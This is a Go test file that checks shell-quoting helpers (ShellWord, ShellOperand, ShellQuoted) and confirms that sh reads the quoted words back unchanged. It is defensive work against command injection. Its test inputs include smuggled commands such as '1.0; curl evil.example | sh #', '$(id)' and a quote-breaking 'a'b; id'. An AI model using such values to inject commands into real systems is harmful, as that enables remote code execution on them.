package source

import (
	"os/exec"
	"testing"
)

func TestShell(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ text, word, operand string }{
		{"web", "web", "web"},
		{"https://charts.example.com/a?b", "'https://charts.example.com/a?b'", "'https://charts.example.com/a?b'"},
		{"oci://r.example.com/a@sha256:0+1", "oci://r.example.com/a@sha256:0+1", "oci://r.example.com/a@sha256:0+1"},
		{"", "''", "''"},
		{"1.0; curl evil.example | sh #", "'1.0; curl evil.example | sh #'", "'1.0; curl evil.example | sh #'"},
		{"$(id)", "'$(id)'", "'$(id)'"},
		{"a'b; id", `'a'\''b; id'`, `'a'\''b; id'`},
		{"~root", "'~root'", "'~root'"},
		{"=id", "'=id'", "'=id'"},
		{"-x", "-x", "./-x"},
		{"a\nb\x1b[31m\u0085", "'ab[31m'", "'ab[31m'"},
		{"größe", "'größe'", "'größe'"},
	} {
		if got := ShellWord(tt.text); got != tt.word {
			t.Errorf("ShellWord(%q) = %s, want %s", tt.text, got, tt.word)
		}
		if got := ShellOperand(tt.text); got != tt.operand {
			t.Errorf("ShellOperand(%q) = %s, want %s", tt.text, got, tt.operand)
		}
	}
}

// A shell reads back what was quoted.
func TestShellReads(t *testing.T) {
	t.Parallel()
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("there is no sh on this machine: ", err)
	}
	for _, text := range []string{"web", "1.0; echo x | cat #", "$(id) `id` \\ \" ' '' *", "a b", "!x", "{a,b}", "~", "=a", "&", "<a", "-n"} {
		for _, word := range []string{ShellWord(text), ShellQuoted(text)} {
			out, err := exec.Command(sh, "-c", "printf %s "+word).Output()
			if err != nil || string(out) != text {
				t.Errorf("sh reads %s as %q, want %q (%v)", word, out, text, err)
			}
		}
	}
}
